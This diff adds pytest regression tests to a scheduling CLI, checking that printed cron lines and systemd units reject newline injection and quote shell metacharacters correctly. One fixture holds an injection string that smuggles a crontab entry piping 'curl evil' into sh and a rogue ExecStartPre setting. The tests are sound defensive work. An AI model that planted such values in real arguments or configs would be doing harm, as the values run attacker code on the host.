@@ -4,6 +4,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 import subprocess
 import sys
 from datetime import UTC, datetime, timedelta
@@ -136,6 +137,28 @@ def test_printed_timers() -> None:
         interval_as_cron(timedelta(minutes=7))
     line = cron_line(Timing(every=timedelta(days=1)), ["store", "import", "a%b.json"])
     assert line.splitlines()[1].startswith("0 0 * * * ") and r"a\%b.json" in line
+
+
+@pytest.mark.parametrize("flag", ["--print-cron", "--print-systemd"])
+def test_printed_timers_refuse_injected_lines(flag: str,
+                                              capsys: pytest.CaptureFixture[str]) -> None:
+    """A newline in an argument once wrote a second crontab line / unit setting."""
+    evil = "site.json\n* * * * * curl evil | sh\n[Service]\nExecStartPre=/bin/evil"
+    assert main(["schedule", "--every", "6h", flag, "--", "store", "import", evil]) == 2
+    captured = capsys.readouterr()
+    assert "control character" in captured.err and "curl" not in captured.out
+
+
+def test_printed_timers_quote_what_their_readers_expand() -> None:
+    odd = ["store", "import", "site 12 $HOME %i \"quoted\" back\\slash.json"]
+    line = cron_line(Timing(every=timedelta(hours=6)), odd).splitlines()[1]
+    # cron turns `\%` back into `%` and hands the rest to /bin/sh: the argv comes back whole
+    words = shlex.split(line.split(" ", 5)[5].replace("\\%", "%"))
+    assert words[-3:] == odd
+    units = systemd_units(Timing(every=timedelta(hours=6)), odd)
+    exec_start = next(u for u in units.splitlines() if u.startswith("ExecStart="))
+    assert exec_start.endswith('store import "site 12 $$HOME %%i \\"quoted\\" '
+                               'back\\\\slash.json"')
 
 
 def test_lists_update_rescreens_the_stored_inventory(tmp_path: Path, ctx: ScreeningContext,
